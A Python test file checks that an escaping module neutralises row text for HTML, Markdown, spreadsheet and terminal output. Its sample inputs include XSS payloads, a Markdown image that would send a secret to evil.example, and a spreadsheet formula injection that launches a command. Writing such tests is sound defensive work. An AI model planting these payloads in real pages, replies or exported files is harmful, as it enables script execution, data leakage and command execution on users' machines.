"""Text from rows never becomes markup, a link or a formula."""

from __future__ import annotations

import html

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vendora_graph.escape import for_html, for_markdown, for_spreadsheet, for_terminal

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "![x](https://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "https://evil.example/track",
    "www.evil.example",
    "| a | b |",
    "# heading\n- item",
    "`code` **bold** _it_ ~~no~~",
    "&lt;script&gt;",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_html_has_no_markup(text: str):
    shown = for_html(text)
    assert not set(shown) & set("<>\"'")
    assert html.unescape(shown) == text


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_has_no_link_image_or_tag(text: str):
    shown = for_markdown(text)
    assert "](" not in shown.replace("\\]", "")
    assert "://" not in shown
    assert "www." not in shown
    assert "\n" not in shown
    for sign in "<>[]|`#":
        assert sign not in shown.replace("\\" + sign, "").replace("&#58;", "").replace("&#46;", "")


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", " =cmd|'/c calc'!A1", "\r=1", "\uff1d1+1"])
def test_a_formula_is_text(text: str):
    assert for_spreadsheet(text) == f"'{text}"


@pytest.mark.parametrize("text", ["-1,234.50", "+3", "-12%", "12", "Ana Ruiz", "O'Brien", ""])
def test_numbers_and_names_stay_as_they_are(text: str):
    assert for_spreadsheet(text) == text


@given(st.text())
def test_nothing_moves_the_cursor(text: str):
    shown = for_terminal(text)
    assert "\x1b" not in shown
    assert all(sign in "\n\t" or (ord(sign) >= 32 and not 0x7F <= ord(sign) < 0xA0) for sign in shown)


def _held(sign: str) -> bool:
    """A workbook can hold the sign."""
    return sign in "\t\n\r" or ord(sign) >= 32


@given(st.text())
def test_no_text_starts_a_formula(text: str):
    shown = for_spreadsheet(text)
    assert shown.removeprefix("'") in (text.removeprefix("'"), "".join(filter(_held, text)).removeprefix("'"))
    assert not shown.startswith(("=", "@"))
